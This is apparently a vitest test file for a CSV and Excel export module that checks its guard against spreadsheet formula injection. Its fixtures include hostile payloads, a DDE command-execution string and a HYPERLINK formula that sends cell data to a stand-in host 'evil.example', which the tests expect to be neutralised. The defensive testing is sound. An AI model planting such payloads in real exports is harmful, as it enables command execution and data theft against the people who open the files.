/**
 * CSV formula injection (OWASP): every CSV writer goes through csvCell. And the Excel
 * exports: exceljs writes strings as shared strings, never as formulas.
 */
import { unzipSync, strFromU8 } from "fflate";
import { describe, expect, it } from "vitest";
import { csvCell, isFormulaLike, toCsv } from "~/domain/csv";
import { targetTableToXlsx } from "~/domain/export/target-table";
import { emptyReport } from "~/domain/report";

describe("csvCell", () => {
  it.each<[string, string]>([
    // formulas and DDE, as OWASP lists them
    ["=1+1", `"'=1+1"`],
    ["+1+1", `"'+1+1"`],
    ["-1+1", `"'-1+1"`],
    ["@SUM(A1)", `"'@SUM(A1)"`],
    [`-1+HYPERLINK("http://evil.example/?q="&A1,"点击")`, `"'-1+HYPERLINK(""http://evil.example/?q=""&A1,""点击"")"`],
    [`=cmd|' /C calc'!A0`, `"'=cmd|' /C calc'!A0"`],
    ["\t=1+1", `"'\t=1+1"`],
    ["\r=1+1", `"'\r=1+1"`],
    ["\n=1+1", `"'\n=1+1"`],
    ["\tplain", `"'\tplain"`],
    // leading blanks before a trigger
    [" =1+1", `"' =1+1"`],
    ["\u3000=1+1", `"'\u3000=1+1"`],
    ["\u00a0@x", `"'\u00a0@x"`],
    // full-width triggers (Chinese input methods)
    ["＝1+1", `"'＝1+1"`],
    ["＋1", `"'＋1"`],
    ["－1+1", `"'－1+1"`],
    ["＠x", `"'＠x"`],
    ["-", `"'-"`],
    // ordinary text
    ["泸县总工会", "泸县总工会"],
    ["a=b", "a=b"],
    ["1+1", "1+1"],
    ["—", "—"],
    ["", ""],
    // plain numbers written as strings stay numbers
    ["-12.5", "-12.5"],
    ["575.65", "575.65"],
    ["-0", "-0"],
    ["0", "0"],
    // RFC 4180 quoting
    ["a,b", `"a,b"`],
    [`他说"好"`, `"他说""好"""`],
    ["line1\nline2", `"line1\nline2"`],
    ["line1\r\nline2", `"line1\r\nline2"`],
  ])("%j → %s", (value, expected) => expect(csvCell(value)).toBe(expected));

  it.each<[number | bigint | null | undefined, string]>([
    [-12.5, "-12.5"],
    [0, "0"],
    [1e21, "1e+21"],
    [Number.NaN, ""],
    [Infinity, ""],
    [-Infinity, ""],
    [9_999_999_999_999n, "9999999999999"],
    [-5n, "-5"],
    [null, ""],
    [undefined, ""],
  ])("%s → %j", (value, expected) => expect(csvCell(value)).toBe(expected));

  it("tells formulas from text", () => {
    expect(isFormulaLike("-1+HYPERLINK(\"x\")")).toBe(true);
    expect(isFormulaLike("-1")).toBe(false);
    expect(isFormulaLike("  -3.5")).toBe(true); // not a plain number as written: guarded, still readable
  });

  it("writes rows with a BOM and CRLF", () => {
    expect(toCsv([["单位", "金额"], ["=1+1", -1], ["a,b", 2n]])).toBe(`\ufeff单位,金额\r\n"'=1+1",-1\r\n"a,b",2\r\n`);
  });
});

describe("Excel exports", () => {
  const HOSTILE = ["=1+1", "-1+HYPERLINK(\"http://evil.example\",\"x\")", "@SUM(A1)", "+1", "=cmd|' /C calc'!A0"];

  it("the 自评表 writes hostile text as strings, never as formulas", async () => {
    const doc = emptyReport(HOSTILE[1], 2023);
    doc.targets.overallGoal = HOSTILE[0];
    doc.targets.indicators = HOSTILE.map((name, i) => ({
      level1: HOSTILE[(i + 1) % HOSTILE.length], level2: HOSTILE[(i + 2) % HOSTILE.length], name, nature: "≥",
      target: HOSTILE[(i + 3) % HOSTILE.length], unit: null, weightPct: "20", actual: HOSTILE[(i + 4) % HOSTILE.length], score: "20",
    }));
    const files = unzipSync(await targetTableToXlsx(doc));
    const sheets = Object.keys(files).filter((f) => f.startsWith("xl/worksheets/") && f.endsWith(".xml"));
    expect(sheets.length).toBeGreaterThan(0);
    for (const sheet of sheets) expect(strFromU8(files[sheet])).not.toMatch(/<f[\s>]/);
    const strings = strFromU8(files["xl/sharedStrings.xml"] ?? new Uint8Array());
    for (const s of ["=1+1", "@SUM(A1)"]) expect(strings).toContain(s);
  });

  it("exceljs's addRow (the dashboard download) keeps strings as strings", async () => {
    const { Workbook } = (await import("exceljs")).default;
    const workbook = new Workbook();
    workbook.addWorksheet("s").addRow([...HOSTILE, -12.5]);
    const files = unzipSync(new Uint8Array((await workbook.xlsx.writeBuffer()) as ArrayBuffer));
    const xml = strFromU8(files["xl/worksheets/sheet1.xml"]);
    expect(xml).not.toMatch(/<f[\s>]/);
    expect(xml.match(/t="s"/g)).toHaveLength(HOSTILE.length);
    expect(xml).toContain("<v>-12.5</v>");
  });
});
